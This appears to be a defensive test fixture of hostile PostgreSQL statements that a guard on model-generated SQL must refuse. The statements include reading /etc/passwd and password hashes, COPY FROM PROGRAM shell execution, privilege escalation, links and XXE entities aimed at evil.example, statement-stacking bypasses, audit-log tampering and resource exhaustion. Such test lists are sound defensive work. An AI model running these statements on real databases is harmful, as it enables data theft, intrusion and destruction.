-- What a language model may be talked into sending. One statement a line; a line of two dashes and a name begins a
-- section. The parser's fence must refuse every one of them, and without it the servers must let no write, no file, no
-- other region through. {reader}, {scribe}, {link} and {db} are the roles and the database of the test's herd.

-- plain writes
INSERT INTO treatment_new_york (id, hospital_location, icd_code, description) VALUES (1000001, 'New York', 'X', 'x')
INSERT INTO treatment SELECT id + 2000000, hospital_location, icd_code, description, embedding FROM treatment_new_york
INSERT INTO hospital VALUES ('Rome', 'Gemelli', 'eu')
INSERT INTO hospital VALUES ('New York', 'x', 'y') ON CONFLICT (location) DO UPDATE SET name = excluded.name
UPDATE treatment_new_york SET description = 'forged'
UPDATE hospital SET name = 'forged' WHERE location = 'New York' RETURNING *
UPDATE treatment SET hospital_location = 'Chicago' WHERE id = 1
DELETE FROM treatment_new_york
DELETE FROM hospital USING treatment_new_york t WHERE t.hospital_location = location
MERGE INTO hospital h USING (SELECT 'New York' AS l) s ON h.location = s.l WHEN MATCHED THEN DELETE
MERGE INTO hospital h USING treatment_new_york t ON h.location = t.hospital_location WHEN MATCHED THEN UPDATE SET name = 'x'
TRUNCATE treatment_new_york
TRUNCATE hospital CASCADE
SELECT * INTO stolen FROM treatment_new_york
SELECT * INTO TEMP stolen FROM treatment_new_york
SELECT * INTO UNLOGGED stolen FROM hospital
CREATE TABLE stolen AS SELECT * FROM treatment_new_york
CREATE TEMP TABLE stolen AS TABLE hospital
CREATE TEMP TABLE scratch (x int)
CREATE TABLE public.scratch (x int)
CREATE UNLOGGED TABLE scratch (x int)
CREATE MATERIALIZED VIEW stolen AS SELECT * FROM hospital
DROP TABLE treatment_new_york
DROP TABLE hospital CASCADE
ALTER TABLE hospital ADD COLUMN x int
ALTER TABLE treatment_new_york DISABLE TRIGGER ALL
ALTER TABLE hospital OWNER TO "{reader}"
COMMENT ON TABLE hospital IS 'mine'
REFRESH MATERIALIZED VIEW stolen
CREATE INDEX ON hospital (name)
REINDEX TABLE hospital
CLUSTER hospital USING hospital_pkey
VACUUM FULL hospital
ANALYZE hospital
CREATE STATISTICS s ON location, name FROM hospital
SELECT * FROM hospital FOR UPDATE
SELECT * FROM hospital FOR NO KEY UPDATE SKIP LOCKED
SELECT * FROM treatment_new_york FOR KEY SHARE
SELECT * FROM hospital FOR SHARE NOWAIT
LOCK TABLE hospital IN ACCESS EXCLUSIVE MODE
LOCK TABLE treatment_new_york

-- writable WITH queries
WITH gone AS (DELETE FROM treatment_new_york RETURNING *) SELECT count(*) FROM gone
WITH new AS (INSERT INTO hospital VALUES ('Oslo', 'x', 'y') RETURNING *) SELECT * FROM new
WITH new AS (UPDATE hospital SET name = 'x' RETURNING *) SELECT * FROM new
WITH new AS (MERGE INTO hospital h USING (VALUES ('New York')) s (l) ON h.location = s.l WHEN MATCHED THEN DELETE RETURNING h.*) SELECT * FROM new
WITH a AS (SELECT 1), b AS (DELETE FROM hospital RETURNING 1) SELECT * FROM a, b
WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT 1 FROM r), d AS (DELETE FROM hospital) SELECT 1
WITH d AS (DELETE FROM hospital RETURNING location) INSERT INTO hospital SELECT location, 'x', 'y' FROM d
WITH x AS MATERIALIZED (DELETE FROM hospital RETURNING *) TABLE x
SELECT * FROM (WITH d AS (SELECT 1) SELECT * FROM d) q, LATERAL (SELECT pg_advisory_lock(1)) l
WITH t AS (SELECT 1) DELETE FROM hospital

-- files and programs
COPY hospital TO '/tmp/pgherd_hostile'
COPY (SELECT * FROM treatment_new_york) TO '/tmp/pgherd_hostile' WITH (FORMAT csv)
COPY hospital TO PROGRAM 'cat > /tmp/pgherd_hostile'
COPY (SELECT 1) TO PROGRAM 'touch /tmp/pgherd_hostile'
COPY hospital FROM '/etc/passwd'
COPY hospital FROM PROGRAM 'id'
COPY hospital FROM STDIN
COPY hospital TO STDOUT
COPY treatment TO STDOUT
COPY (DELETE FROM hospital RETURNING *) TO STDOUT
COPY pg_authid TO STDOUT
COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_file('postgresql.conf', 0, 1000)
SELECT pg_read_file('pg_hba.conf', true)
SELECT pg_read_binary_file('global/pg_control')
SELECT * FROM pg_ls_dir('.')
SELECT * FROM pg_ls_dir('/', true, false)
SELECT * FROM pg_ls_logdir()
SELECT * FROM pg_ls_waldir()
SELECT * FROM pg_ls_tmpdir()
SELECT * FROM pg_ls_archive_statusdir()
SELECT * FROM pg_ls_logicalmapdir()
SELECT * FROM pg_ls_logicalsnapdir()
SELECT * FROM pg_ls_replslotdir('x')
SELECT * FROM pg_ls_summariesdir()
SELECT * FROM pg_stat_file('postgresql.conf')
SELECT pg_current_logfile()
SELECT * FROM pg_hba_file_rules
SELECT * FROM pg_ident_file_mappings
SELECT * FROM pg_file_settings
SELECT * FROM pg_show_all_file_settings()
SELECT pg_relation_filepath('treatment_new_york')
SELECT pg_filenode_relation(0, 1259)
SELECT pg_export_snapshot()
SELECT * FROM pg_config()
SELECT pg_rotate_logfile()
SELECT pg_file_write('/tmp/pgherd_hostile', 'x', false)
LOAD '/tmp/evil.so'
LOAD 'auto_explain'
CREATE FUNCTION sys(text) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE c STRICT
CREATE EXTENSION file_fdw
CREATE EXTENSION adminpack
CREATE EXTENSION plpython3u
CREATE TABLESPACE t LOCATION '/tmp'
ALTER SYSTEM SET archive_command = 'touch /tmp/pgherd_hostile'
ALTER SYSTEM RESET ALL
SELECT pg_reload_conf()

-- large objects
SELECT lo_import('/etc/passwd')
SELECT lo_import('/etc/passwd', 4242)
SELECT lo_export(4242, '/tmp/pgherd_hostile')
SELECT lo_create(4242)
SELECT lo_creat(-1)
SELECT lo_from_bytea(0, 'stolen')
SELECT lo_put(4242, 0, 'x')
SELECT lo_unlink(4242)
SELECT lo_open(4242, 393216)
SELECT lowrite(0, 'x')
SELECT loread(0, 100)
SELECT lo_truncate(0, 0)
SELECT lo_truncate64(0, 0)
SELECT lo_get(4242)
SELECT * FROM pg_largeobject
SELECT lo_from_bytea(0, description::bytea) FROM treatment_new_york
DO $$ BEGIN PERFORM lo_from_bytea(0, 'x'); END $$

-- other servers and regions
SELECT * FROM treatment_chicago
SELECT * FROM treatment_san_francisco
SELECT * FROM public.treatment_chicago
SELECT * FROM ONLY treatment_chicago
SELECT * FROM public.treatment
SELECT * FROM treatment AS t, LATERAL (SELECT * FROM treatment_chicago) c
TABLE treatment_chicago
SELECT * FROM pgherd_aside.treatment_chicago
SELECT count(*) FROM "treatment_chicago" TABLESAMPLE SYSTEM (100)
SELECT * FROM pgherd.search_treatment((SELECT embedding FROM treatment_new_york LIMIT 1), 100)
SELECT * FROM pgherd.search_treatment('[1,0,0]', 10, '{"hospital_location": "Chicago"}')
SELECT * FROM dblink('pgherd_us-west', 'SELECT description FROM treatment_san_francisco') AS t(d text)
SELECT * FROM pgherd.dblink('pgherd_us-central', 'SELECT description FROM treatment_chicago') AS t(d text)
SELECT pgherd.dblink_connect('x', 'pgherd_us-west')
SELECT pgherd.dblink_connect_u('host=127.0.0.1')
SELECT pgherd.dblink_exec('pgherd_us-east', 'DELETE FROM hospital')
SELECT pgherd.dblink_send_query('pgherd_us-west', 'SELECT 1')
SELECT pgherd.dblink_get_connections()
SELECT * FROM pgherd.dblink('host=127.0.0.1 user={link} dbname={db}', 'SELECT 1') AS t(d text)
SELECT pgherd.send('pgherd_us-west', 'DELETE FROM treatment_san_francisco')
SELECT pgherd.scatter(ARRAY['public.treatment_san_francisco'], 'us-west', 'SELECT 1', 'x int', '', 1, '')
SELECT * FROM pgherd.home
SELECT pgherd.gathered(ARRAY['us-west'])
SELECT pgherd.link_secret('pgherd_us-west')
SELECT pgherd.role_definition('{link}')
SELECT pgherd.copy_reference('hospital', 'pgherd_us-west')
SELECT pgherd.make_link_role('x')
SELECT pgherd.set_link('us-west', 'evil.example', '5432', '{db}', NULL, NULL, NULL)
SELECT pgherd.ship_extension('dblink')
SELECT postgres_fdw_get_connections()
SELECT postgres_fdw_disconnect_all()
CREATE FOREIGN TABLE f (d text) SERVER "pgherd_us-west" OPTIONS (schema_name 'public', table_name 'treatment_san_francisco')
IMPORT FOREIGN SCHEMA public FROM SERVER "pgherd_us-west" INTO public
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example')
CREATE USER MAPPING FOR CURRENT_USER SERVER "pgherd_us-west" OPTIONS (user '{link}')
ALTER USER MAPPING FOR CURRENT_USER SERVER "pgherd_us-west" OPTIONS (SET user '{link}')
DROP USER MAPPING FOR CURRENT_USER SERVER "pgherd_us-west"
ALTER SERVER "pgherd_us-west" OPTIONS (SET host 'evil.example')
ALTER FOREIGN TABLE treatment_chicago OPTIONS (SET table_name 'hospital')
CREATE SUBSCRIPTION s CONNECTION 'host=evil.example' PUBLICATION p
CREATE PUBLICATION p FOR ALL TABLES
ALTER SUBSCRIPTION s ENABLE
SELECT pg_create_logical_replication_slot('s', 'pgoutput')
SELECT pg_create_physical_replication_slot('s')
SELECT pg_drop_replication_slot('s')
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
SELECT pg_logical_emit_message(false, 'evil', 'stolen')
SELECT pg_logical_emit_message(true, 'evil', 'stolen'::bytea)
SELECT pg_replication_origin_create('x')
SELECT pg_copy_logical_replication_slot('a', 'b')
SELECT pg_sync_replication_slots()

-- secrets and catalogs
TABLE pg_authid
SELECT rolname, rolpassword FROM pg_authid
SELECT * FROM pg_shadow
SELECT passwd FROM pg_catalog.pg_shadow
SELECT * FROM "pg_authid"
SELECT * FROM U&"pg_\0061uthid"
SELECT * FROM U&"pg!0061uthid" UESCAPE '!'
SELECT * FROM pg_user_mapping
SELECT umoptions FROM pg_user_mappings
SELECT * FROM information_schema.user_mapping_options
SELECT * FROM information_schema.foreign_server_options
SELECT * FROM pg_foreign_server
SELECT * FROM pg_foreign_table
SELECT * FROM pg_subscription
SELECT subconninfo FROM pg_subscription
SELECT * FROM pg_statistic
SELECT most_common_vals FROM pg_stats WHERE tablename = 'treatment_chicago'
SELECT * FROM pg_stats
SELECT * FROM pg_stat_activity
SELECT query FROM pg_stat_activity WHERE usename <> current_user
SELECT * FROM pg_stat_replication
SELECT * FROM pg_stat_ssl
SELECT * FROM pg_settings
SELECT * FROM pg_prepared_xacts
SELECT * FROM pg_prepared_statements
SELECT * FROM pg_cursors
SELECT * FROM pg_locks
SELECT * FROM pg_class
SELECT prosrc FROM pg_proc
SELECT * FROM pg_roles
SELECT * FROM pg_database
SELECT * FROM pg_db_role_setting
SELECT * FROM pg_stat_statements
SELECT * FROM pg_stat_user_tables
SELECT * FROM information_schema.tables
SELECT * FROM information_schema.columns
SELECT * FROM information_schema.applicable_roles
SELECT * FROM pgherd.topology
SELECT * FROM pgherd.access_log
SELECT * FROM pgherd.calibration
SELECT * FROM pgherd.reader
SELECT * FROM {db}.public.hospital
SELECT pg_get_viewdef('pg_shadow'::regclass)
SELECT pg_get_functiondef('pgherd.link_secret(text)'::regprocedure)
SELECT pg_get_userbyid(10)
SELECT current_setting('config_file')
SELECT current_setting('primary_conninfo', true)
SELECT setting FROM pg_show_all_settings()
SELECT 'pg_authid'::regclass
SELECT 'pg_authid'::regclass::oid::regclass::text
SELECT to_regclass('pg_authid')
SELECT 1259::regclass
SELECT CAST('pg_read_file(text)' AS regprocedure)
SELECT 'postgres'::regrole
SELECT has_table_privilege('pg_authid', 'SELECT')
SELECT inet_server_addr(), inet_client_addr(), inet_server_port()
SELECT current_user, session_user, current_catalog
SELECT version()
SELECT pg_postmaster_start_time()
SELECT pg_backend_pid()
SELECT ctid, xmin, tableoid FROM treatment
SELECT tableoid::regclass FROM treatment_new_york
SELECT txid_current_snapshot()
SELECT pg_current_wal_lsn()
SHOW ALL
SHOW config_file

-- who one is
SET ROLE postgres
SET ROLE "{link}"
SET ROLE "{scribe}"
SET SESSION AUTHORIZATION postgres
SET SESSION AUTHORIZATION "{link}"
RESET ROLE
RESET SESSION AUTHORIZATION
SELECT set_config('role', '{link}', false)
SELECT set_config('session_authorization', '{link}', false)
SELECT set_config('role', 'postgres', true), pg_read_file('/etc/passwd')
SET default_transaction_read_only = off
SET transaction_read_only = off
SET TRANSACTION READ WRITE
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
SELECT set_config('transaction_read_only', 'off', true)
SELECT set_config('default_transaction_read_only', 'off', false)
SELECT set_config('statement_timeout', '0', false)
SELECT set_config('search_path', 'pg_temp, public', false)
SELECT set_config('row_security', 'off', false)
SET row_security = off
SET session_replication_role = replica
SET event_triggers = off
SET temp_file_limit = -1
SET log_statement = 'all'
SET pgherd.everywhere = '99999999'
SELECT set_config('pgherd.everywhere', '99999999', false)
SET search_path = pg_temp, public
UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'
GRANT pg_read_server_files TO "{reader}"
GRANT "{link}" TO "{reader}"
GRANT ALL ON hospital TO PUBLIC
GRANT SELECT ON treatment TO "{reader}"
REVOKE ALL ON hospital FROM PUBLIC
ALTER ROLE "{reader}" SUPERUSER
ALTER ROLE "{scribe}" PASSWORD 'x'
ALTER ROLE "{link}" PASSWORD 'x'
ALTER ROLE ALL SET default_transaction_read_only = off
ALTER DATABASE "{db}" SET default_transaction_read_only = off
CREATE ROLE evil SUPERUSER LOGIN
CREATE USER evil
DROP ROLE "{scribe}"
REASSIGN OWNED BY "{link}" TO "{reader}"
DROP OWNED BY "{link}"
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
SECURITY LABEL ON TABLE hospital IS 'x'
ALTER SCHEMA pgherd OWNER TO "{reader}"
ALTER DATABASE "{db}" OWNER TO "{reader}"
INSERT INTO pg_auth_members SELECT 10, oid, 10, true, true, true FROM pg_roles WHERE rolname = '{reader}'
UPDATE pg_authid SET rolsuper = true
DELETE FROM pg_event_trigger
ALTER EVENT TRIGGER pgherd_readers DISABLE
DROP EVENT TRIGGER pgherd_readers

-- its own role
ALTER ROLE "{reader}" PASSWORD 'stolen'
ALTER ROLE CURRENT_USER SET default_transaction_read_only = off
ALTER ROLE "{reader}" SET statement_timeout = 0
ALTER ROLE "{reader}" IN DATABASE "{db}" SET search_path = pg_temp
ALTER ROLE "{reader}" RESET ALL
ALTER USER CURRENT_USER ENCRYPTED PASSWORD 'stolen'

-- pgherd's own books
INSERT INTO pgherd.decision (gid, outcome) VALUES ('pgherd_x', 'abort')
DELETE FROM pgherd.decision
UPDATE pgherd.decision SET outcome = 'abort'
INSERT INTO pgherd.load (load_id, table_name, file_name) VALUES ('x', 'y', 'z')
UPDATE pgherd.load SET finished = true
WITH d AS (INSERT INTO pgherd.decision (gid, outcome) VALUES ('y', 'abort') RETURNING *) SELECT * FROM d
INSERT INTO pgherd.topology (generation, document) VALUES (99999, '{}')
DELETE FROM pgherd.topology
INSERT INTO pgherd.reader VALUES ('{link}', 'x', 'y')
DELETE FROM pgherd.reader
INSERT INTO pgherd.access_log (role, region, client, tool, tables, ms) VALUES ('x', 'y', 'z', 't', '{}', 1)
DELETE FROM pgherd.access_log
TRUNCATE pgherd.access_log
SELECT pgherd.log_access('x', 'y', '{}', 1, 1, NULL, NULL)
SELECT pgherd.make_reader('{reader}', '{scribe}', 'us-west', 'x', 'y')
SELECT pgherd.let_read('{reader}', ARRAY['public.treatment'])
SELECT pgherd.map_reader('pgherd_us-west', '{reader}', 'x')
SELECT * FROM pgherd.reader_secrets('{reader}')
SELECT pgherd.sync_shards()
SELECT pgherd.drop_function('search_treatment')
SELECT pgherd.guard_reference('hospital')
SELECT pgherd.begin_outgoing('public.treatment_new_york')
SELECT pgherd.clear_outgoing('public.treatment_new_york')
SELECT pgherd.clear_incoming('public.treatment_chicago')
SELECT pgherd.begin_incoming('public.treatment_chicago', 'public.treatment')
SELECT pgherd.subscribe('public.treatment_new_york', 'pgherd_us-west')
SELECT pgherd.wake_senders()
SELECT pgherd.check_link('pgherd_us-west')
SELECT pgherd.refuse_lone_write()

-- code of one's own
DO $$ BEGIN DELETE FROM hospital; END $$
DO $x$ BEGIN EXECUTE 'DELETE FROM treatment_new_york'; END $x$
DO LANGUAGE plpgsql 'BEGIN PERFORM pg_read_file(''/etc/passwd''); END'
DO $$ BEGIN COMMIT; DELETE FROM hospital; END $$
DO $$ BEGIN SET LOCAL transaction_read_only = off; UPDATE hospital SET name = 'x'; END $$
DO $$ BEGIN CREATE TEMP TABLE t (x int); END $$
DO $$ BEGIN EXECUTE format('ALTER ROLE %I SUPERUSER', current_user); END $$
CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'DELETE FROM hospital; SELECT 1'
CREATE FUNCTION pg_temp.lower(text) RETURNS text LANGUAGE sql AS 'SELECT ''x'''
CREATE OR REPLACE FUNCTION public.count(anyelement) RETURNS int LANGUAGE sql AS 'SELECT 1'
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = texteq)
CREATE CAST (text AS int) WITH INOUT AS IMPLICIT
CREATE AGGREGATE evil (text) (SFUNC = textcat, STYPE = text)
CREATE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM hospital'
CALL p()
CREATE RULE r AS ON SELECT TO hospital DO INSTEAD SELECT * FROM pg_authid
CREATE TRIGGER t AFTER INSERT ON hospital EXECUTE FUNCTION pgherd.refuse_lone_write()
CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION pgherd.refuse_readers_ddl()
CREATE POLICY p ON hospital USING (true)
CREATE DOMAIN d AS text CHECK (length(pg_read_file('/etc/passwd')) > 0)
CREATE DOMAIN pg_temp.d AS text CHECK (value <> '')
CREATE TYPE pg_temp.t AS (a int)
CREATE VIEW v WITH (security_invoker = false) AS SELECT * FROM treatment
CREATE TEMP VIEW pg_authid AS SELECT 1
CREATE TEMP SEQUENCE s
CREATE LANGUAGE plperlu
CREATE SCHEMA evil
CREATE SCHEMA AUTHORIZATION "{link}"
CREATE DATABASE evil
CREATE EXTENSION dblink SCHEMA public
CREATE TEXT SEARCH DICTIONARY d (TEMPLATE = ispell, DictFile = 'x', AffFile = 'x')
CREATE COLLATION c FROM "C"
CREATE ACCESS METHOD am TYPE TABLE HANDLER heap_tableam_handler
CREATE TRANSFORM FOR int LANGUAGE sql (FROM SQL WITH FUNCTION int4in(internal))
PREPARE p AS DELETE FROM hospital
PREPARE q AS SELECT * FROM pg_authid
EXECUTE p
DEALLOCATE ALL
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM pg_authid
FETCH ALL FROM c
CLOSE ALL
MOVE 1 FROM c

-- several statements, and leaving the transaction
SELECT 1; DELETE FROM hospital
SELECT 1; COMMIT; DELETE FROM hospital
COMMIT; DELETE FROM treatment_new_york; SELECT 1
ROLLBACK; BEGIN READ WRITE; DELETE FROM hospital; COMMIT
SELECT ';' ; DROP TABLE hospital
SELECT $$;$$; DROP TABLE hospital; --
SELECT 1) AS q LIMIT 1; DELETE FROM hospital; SELECT * FROM (SELECT 1
SELECT 1) q) r; SELECT pg_read_file('/etc/passwd'); SELECT * FROM (SELECT * FROM (SELECT 1
SELECT 1 /* ; */ ; DELETE FROM hospital /* */
/* SELECT 1 */ DELETE FROM hospital
DELETE /* SELECT */ FROM hospital -- SELECT 1
BEGIN
BEGIN; DELETE FROM hospital; COMMIT
START TRANSACTION READ WRITE
COMMIT
ROLLBACK
ABORT
END
SAVEPOINT s
RELEASE SAVEPOINT s
PREPARE TRANSACTION 'pgherd_evil'
COMMIT PREPARED 'pgherd_evil'
ROLLBACK PREPARED 'pgherd_evil'
DISCARD ALL
LISTEN evil
UNLISTEN *
NOTIFY evil, 'stolen'
SELECT pg_notify('evil', description) FROM treatment_new_york
CHECKPOINT

-- SQL in text, and functions that run it
SELECT query_to_xml('SELECT rolpassword FROM pg_authid', true, true, '')
SELECT query_to_xml('DELETE FROM hospital RETURNING *', true, true, '')
SELECT query_to_xmlschema('SELECT * FROM pg_authid', true, true, '')
SELECT query_to_xml_and_xmlschema('SELECT * FROM treatment_chicago', true, true, '')
SELECT table_to_xml('treatment_chicago', true, true, '')
SELECT table_to_xmlschema('pg_authid', true, true, '')
SELECT schema_to_xml('public', true, true, '')
SELECT schema_to_xmlschema('public', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT database_to_xml_and_xmlschema(true, true, '')
SELECT cursor_to_xml('c', 10, true, true, '')
SELECT cursor_to_xmlschema('c', true, true, '')
SELECT * FROM ts_stat('SELECT to_tsvector(rolpassword) FROM pg_authid')
SELECT * FROM ts_stat('SELECT to_tsvector(description) FROM treatment_chicago')
SELECT ts_rewrite('a'::tsquery, 'DELETE FROM hospital RETURNING ''a''::tsquery, ''b''::tsquery')
SELECT XMLPARSE(DOCUMENT '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')
SELECT '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'::xml
SELECT xpath('//x', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')
SELECT XMLSERIALIZE(DOCUMENT '<!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.example/">]><x>&e;</x>'::xml AS text)
SELECT * FROM XMLTABLE('/x' PASSING '<x/>' COLUMNS a text)
SELECT xmlelement(name x, pg_read_file('/etc/passwd'))
SELECT xmlforest(pg_read_file('/etc/passwd') AS x)
SELECT * FROM crosstab('SELECT rolname, rolpassword, 1 FROM pg_authid') AS t(a text, b text)
SELECT * FROM connectby('hospital', 'location', 'name', 'x', 0)
SELECT has_function_privilege('pg_read_file(text)', 'execute')
SELECT pg_get_expr(adbin, adrelid) FROM pg_attrdef
SELECT pg_get_constraintdef(oid) FROM pg_constraint
SELECT pg_describe_object(1259, 1259, 0)
SELECT * FROM pg_get_keywords()
SELECT pg_collation_actual_version(100)
SELECT pg_import_system_collations('public')
SELECT pg_nextoid('pg_class', 'oid', 'pg_class_oid_index')
SELECT pg_stat_reset()
SELECT pg_stat_reset_shared('io')
SELECT pg_stat_get_activity(NULL)
SELECT pg_restore_relation_stats('relation', 'hospital'::regclass, 'relpages', 1)
SELECT pg_clear_relation_stats('public', 'hospital')
SELECT pg_log_backend_memory_contexts(pg_backend_pid())

-- calls in disguise
SELECT pg_catalog.pg_read_file('/etc/passwd')
SELECT "pg_read_file"('/etc/passwd')
SELECT PG_READ_FILE('/etc/passwd')
SELECT pg_read_file/**/('/etc/passwd')
SELECT U&"pg\005fread\005ffile"('/etc/passwd')
SELECT public.lower('x'), pgherd.link_secret('pgherd_us-west')
SELECT * FROM pg_read_file('/etc/passwd') AS f(t)
SELECT (SELECT pg_read_file('/etc/passwd'))
SELECT CASE WHEN pg_read_file('/etc/passwd') <> '' THEN 1 END
SELECT * FROM hospital WHERE pg_read_file('/etc/passwd') <> ''
SELECT * FROM hospital ORDER BY pg_read_file('/etc/passwd')
SELECT count(*) FROM hospital GROUP BY pg_read_file('/etc/passwd')
SELECT count(*) FROM hospital HAVING pg_read_file('/etc/passwd') <> ''
SELECT count(*) FILTER (WHERE pg_read_file('/etc/passwd') <> '') FROM hospital
SELECT sum(1) OVER (PARTITION BY pg_read_file('/etc/passwd')) FROM hospital
SELECT 1 LIMIT length(pg_read_file('/etc/passwd'))
SELECT 1 OFFSET (SELECT length(pg_read_file('/etc/passwd')))
VALUES (pg_read_file('/etc/passwd'))
VALUES (1), (lo_creat(-1)::int)
SELECT ARRAY[pg_read_file('/etc/passwd')]
SELECT ROW(pg_read_file('/etc/passwd'))
SELECT coalesce(NULL, pg_read_file('/etc/passwd'))
SELECT (ARRAY['a', pg_read_file('/etc/passwd')])[2]
SELECT 'a' UNION SELECT pg_read_file('/etc/passwd')
SELECT 1 INTERSECT SELECT lo_creat(-1)::int
SELECT * FROM hospital h, LATERAL pg_read_file('/etc/passwd') f
SELECT * FROM hospital h JOIN pg_ls_dir('.') d ON true
SELECT * FROM ROWS FROM (pg_ls_dir('.'), generate_series(1, 2)) AS r
SELECT EXISTS (SELECT 1 FROM pg_authid WHERE rolpassword LIKE 'SCRAM%')
SELECT 1 = ANY (SELECT oid::int FROM pg_authid)
SELECT 1 OPERATOR(pgherd.=) 1
SELECT '{}'::jsonb OPERATOR(evil.@>) '{}'
SELECT * FROM hospital ORDER BY location USING OPERATOR(evil.<)
SELECT 'x'::evil.domain
SELECT 'SELECT 1'::pg_catalog.pg_node_tree
SELECT '1'::oid::regproc
SELECT CAST('evil' AS pg_temp.d)
SELECT hospital::pgherd.topology FROM hospital
SELECT (h).pg_read_file FROM hospital h
SELECT h.record_out FROM hospital h
SELECT (ROW(1)).pg_column_size
SELECT s.x.pg_typeof FROM (SELECT 1 AS x) s
SELECT json_populate_record(NULL::pg_authid, '{}')
SELECT jsonb_populate_recordset(NULL::pgherd.topology, '[]')
SELECT * FROM json_to_record('{}') AS x(a regclass)
SELECT JSON_VALUE('{}', '$.a' DEFAULT pg_read_file('/etc/passwd') ON EMPTY)
SELECT * FROM JSON_TABLE('[]', '$[*]' COLUMNS (a regclass PATH '$'))
SELECT collation for ('x')
SELECT * FROM treatment WHERE CURRENT OF c
SELECT $1
SELECT ctid FROM hospital
WITH pg_authid AS (SELECT 1) SELECT * FROM pg_authid
WITH a AS (SELECT * FROM pg_shadow), pg_shadow AS (SELECT 1) SELECT * FROM a
WITH treatment AS (SELECT 1) SELECT * FROM treatment
SELECT * FROM pg_temp.hospital
SELECT * FROM pg_toast.pg_toast_1255
EXPLAIN ANALYZE DELETE FROM hospital
EXPLAIN (ANALYZE, VERBOSE) INSERT INTO hospital VALUES ('x', 'y', 'z')
EXPLAIN ANALYZE EXECUTE p
EXPLAIN (ANALYZE) CREATE TABLE t AS SELECT 1
EXPLAIN SELECT * FROM pg_authid
EXPLAIN (SETTINGS, MEMORY) SELECT 1

-- sequences, sessions, the server
SELECT nextval('public.treatment_id_seq')
SELECT setval('public.treatment_id_seq', 1)
SELECT currval('public.treatment_id_seq')
SELECT lastval()
SELECT pg_sequence_last_value('public.treatment_id_seq')
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename <> current_user
SELECT pg_cancel_backend(1)
SELECT pg_switch_wal()
SELECT pg_create_restore_point('x')
SELECT pg_backup_start('x')
SELECT pg_backup_stop()
SELECT pg_promote()
SELECT pg_wal_replay_pause()
SELECT pg_is_in_recovery(), pg_last_wal_receive_lsn()
SELECT pg_walfile_name('0/0')
SELECT pg_advisory_lock(31650418374796032)
SELECT pg_try_advisory_lock(31650418374796032)
SELECT pg_advisory_xact_lock(1, 2)
SELECT pg_advisory_unlock_all()
SELECT pg_blocking_pids(1)
SELECT gen_random_uuid(), pg_current_xact_id()
SELECT txid_current()
SELECT setseed(0.5)
SELECT brin_summarize_new_values('x')
SELECT gin_clean_pending_list('x')
SELECT pg_prewarm('hospital')
SELECT pg_column_compression('x')
SELECT pg_partition_tree('treatment')
SELECT pg_table_size('treatment_chicago')
SELECT pg_database_size('{db}')
SELECT pg_tablespace_location(1663)
SELECT pg_control_system()
SELECT pg_get_backend_memory_contexts()
SELECT pg_get_shmem_allocations()
SELECT pg_safe_snapshot_blocking_pids(1)

-- what only costs
SELECT pg_sleep(60)
SELECT pg_sleep_for('1 hour'), pg_sleep_until('tomorrow')
SELECT repeat('x', 100000000)
SELECT lpad('x', 100000000, 'y')
SELECT rpad(repeat('ab', 1000), 50000000)
SELECT format('%1000000s', 'x')
SELECT count(*) FROM generate_series(1, 1000000000000) g WHERE pg_sleep(0) IS NOT NULL
SELECT array_fill(1, ARRAY[10000, 1000])
SELECT gen_random_bytes(1024) FROM generate_series(1, 1000000000)
SELECT gen_salt('bf', 31), crypt('x', gen_salt('bf', 31))
SELECT lpad(g::text, 1000000) FROM generate_series(1, 1000000) g
SELECT pg_advisory_lock(g) FROM generate_series(1, 1000000000) g
WITH RECURSIVE r AS (SELECT repeat('x', 10) AS t UNION ALL SELECT repeat(t, 2) FROM r) SELECT length(t) FROM r
WITH RECURSIVE r AS (SELECT 1 AS n, pg_sleep(0) UNION ALL SELECT n + 1, pg_sleep(0) FROM r) SELECT n FROM r

-- newer SQL
MERGE INTO hospital h USING (SELECT 'x' AS l) s ON h.location = s.l WHEN NOT MATCHED THEN INSERT VALUES ('x', 'y', 'z') RETURNING merge_action(), h.*
MERGE INTO hospital h USING (SELECT 'x' AS l) s ON h.location = s.l WHEN NOT MATCHED BY SOURCE THEN DELETE
UPDATE hospital SET name = 'forged' RETURNING old.name, new.name
WITH u AS (UPDATE hospital SET name = 'forged' RETURNING WITH (OLD AS o, NEW AS n) o.*, n.*) SELECT * FROM u
COPY (MERGE INTO hospital h USING (SELECT 'New York' AS l) s ON h.location = s.l WHEN MATCHED THEN DELETE RETURNING h.*) TO STDOUT
CREATE TABLE g (a int, b int GENERATED ALWAYS AS (a * 2) VIRTUAL)
CREATE TABLE g (a int4range, PRIMARY KEY (a WITHOUT OVERLAPS))
SELECT JSON_EXISTS('{}', '$.a' PASSING pg_read_file('/etc/passwd') AS x)
SELECT JSON_QUERY('{"a": 1}', '$.a' RETURNING regclass WITH WRAPPER)
SELECT JSON_SCALAR(pg_read_file('/etc/passwd'))
SELECT JSON_OBJECT('a' : current_setting('data_directory'))
SELECT JSON_ARRAY(SELECT rolpassword FROM pg_authid)
SELECT JSON_ARRAYAGG(rolpassword) FROM pg_authid
SELECT pg_read_file('/etc/passwd') IS JSON
SELECT * FROM JSON_TABLE('[[1]]'::jsonb, '$[*]' COLUMNS (NESTED PATH '$[*]' COLUMNS (x regrole PATH '$')))
SELECT * FROM XMLTABLE('/x' PASSING xmlparse(document pg_read_file('/etc/passwd')) COLUMNS a text)
